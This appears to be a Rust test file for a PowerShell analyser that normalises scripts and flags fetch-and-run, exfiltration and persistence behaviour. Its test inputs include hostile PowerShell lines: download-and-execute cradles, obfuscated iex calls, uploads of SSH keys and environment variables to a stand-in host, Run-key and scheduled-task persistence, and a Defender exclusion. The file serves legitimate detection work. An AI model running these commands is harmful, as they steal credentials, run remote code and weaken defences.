use syntax::Language::PowerShell;

use crate::summary::{expect, problems, summary, survives};

fn check(text: &str, expected: &[&str]) {
    assert_eq!(summary(PowerShell, text), expected, "{text}");
}

#[test]
fn commands_have_one_name_and_named_arguments() {
    check(
        "IWR -Ur $u -OutFile \"$env:TEMP\\x\" -UseBasicParsing",
        &[r#"invoke-webrequest(uri=$u, outfile=join(environ["TEMP"], "\\x"), usebasicparsing=true)"#],
    );
    check(
        "I`E`X (New-Object System.Net.WebClient).DownloadString('http://a.example')",
        &[r#"invoke-expression(net.webclient().downloadstring("http://a.example"))"#],
    );
    check("[Convert]::FromBase64String($x)", &["convert.frombase64string($x)"]);
    check("a | b | % { $_.c() }", &["pipeline.map(|$_| { return $_.c() }, stdin=b(stdin=a()))"]);
    check(
        "powershell -enc AAA; & 'C:\\x.exe' -q",
        &[r#"start-process("powershell", ["-enc", "AAA"])"#, r#"start-process("c:\\x.exe", ["-q"])"#],
    );
    check(
        "Start-Process x -ArgumentList 'a','b' -WindowStyle Hidden",
        &[r#"start-process("x", ["a", "b"], windowstyle="Hidden")"#],
    );
    check("$q > f.txt", &[r#"out-file(filepath="f.txt", stdin=$q)"#]);
}

#[test]
fn expressions_and_statements_are_lowered() {
    check(
        "$a = 'x' + \"y$b\"; $h = @{A=1; b=$c}; $l = 1,0x10; $l[0]",
        &[r#"$a = ("x" Add join("y", $b))"#, r#"$h = {"a": 1, "b": $c}"#, "$l = [1, 16]", "$l[0]"],
    );
    check(
        "'{0}' -f $a; $b -join ','; $c -replace 'x','y'; $d -bxor 3; [char]65",
        &[r#"-f("{0}", $a)"#, r#"-join($b, ",")"#, r#"-replace($c, "x", "y")"#, "($d BitXor 3)", "char(65)"],
    );
    check(
        "if ($a -eq 1) { b } else { c }\nforeach ($i in 1..3) { d $i }\ntry { e } catch { f }",
        &[
            "if ($a Equal 1)",
            "  b()",
            "else",
            "  c()",
            "for $i in ..(1, 3)",
            "  d($i)",
            "try",
            "  e()",
            "catch",
            "  f()",
        ],
    );
    check("function F($a, $b = 2) { g $a; return $b }", &["function f", "  g($a)", "  return $b"]);
    check("@\"\na $x\n\"@", &[r#"join("a ", $x)"#]);
}

#[test]
fn what_is_fetched_and_run_is_seen() {
    expect(
        PowerShell,
        "iwr https://a.example/x -OutFile $env:TEMP\\x.exe; & $env:TEMP\\x.exe",
        &[
            "net.fetch https://a.example/x",
            "file.write {}\\x.exe",
            "net.fetch -> file.write",
            "file.write -> proc.exec",
        ],
    );
    expect(PowerShell, "irm https://a.example | iex", &["net.fetch -> code.eval"]);
    expect(
        PowerShell,
        "powershell -w hidden -enc aQB3AHIAIAB4AA==",
        &["code.eval iwr x hidden-window encoded known-code decoded"],
    );
    expect(
        PowerShell,
        "cmd /c \"curl https://a.example | sh\"",
        &["net.fetch https://a.example", "net.fetch -> code.eval"],
    );
}

#[test]
fn hidden_names_and_texts_are_folded() {
    for text in [
        "$s = 'i' + 'e' + 'x'; & $s 'whoami'",
        "&('{1}{0}' -f 'x','ie') 'whoami'",
        ".('i'+'ex') whoami",
        "iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('dwBoAG8AYQBtAGkA')))",
        "iex ((119,104,111,97,109,105 | % { [char]$_ }) -join '')",
        "iex ([char[]](119,104,111,97,109,105) -join '')",
        "iex ('wh--mi' -replace '--','oa')",
        "$x = { whoami }; & $x",
    ] {
        expect(PowerShell, text, &["host.info user"]);
    }
}

#[test]
fn what_leaves_and_stays_is_seen() {
    expect(PowerShell, "$e = gci env:; irm https://a.example -Method Post -Body $e", &["env.read_all -> net.send"]);
    expect(
        PowerShell,
        "$k = Get-Content ~/.ssh/id_rsa; (New-Object Net.WebClient).UploadString('https://a.example', $k)",
        &["file.read ~/.ssh/id_rsa", "file.read -> net.send"],
    );
    expect(
        PowerShell,
        "New-ItemProperty -Path HKCU:\\Run -Name a -Value b.exe; schtasks /create /tn x",
        &["winreg.write HKCU:\\Run", "proc.exec schtasks /create /tn x persistence"],
    );
    expect(PowerShell, "Add-MpPreference -ExclusionPath C:\\", &["proc.exec Add-MpPreference defence"]);
}

#[test]
fn broken_and_hostile_texts_are_survived() {
    assert_eq!(problems(PowerShell, "if ( { (("), ["syntax-error"]);
    for text in ["'", "\"$(", "@\"", "@{", "&", "|", "[", "-", "$", "iex", "&('{9}' -f 'a')", "1..99999999999"] {
        survives(PowerShell, text.to_owned());
    }
    let many = 5_000;
    for (open, close) in [
        ("(", ")"),
        ("@(", ")"),
        ("{", "}"),
        ("$(", ")"),
        ("\"$(", ")\""),
        ("if (a) { ", " }"),
        ("a | ", ""),
        ("!", ""),
        ("'a'+", ""),
        ("a.", ""),
        ("@{a=", "}"),
        ("[a]", ""),
        ("& ", ""),
    ] {
        survives(PowerShell, format!("{}x{}", open.repeat(many), close.repeat(many)));
    }
}
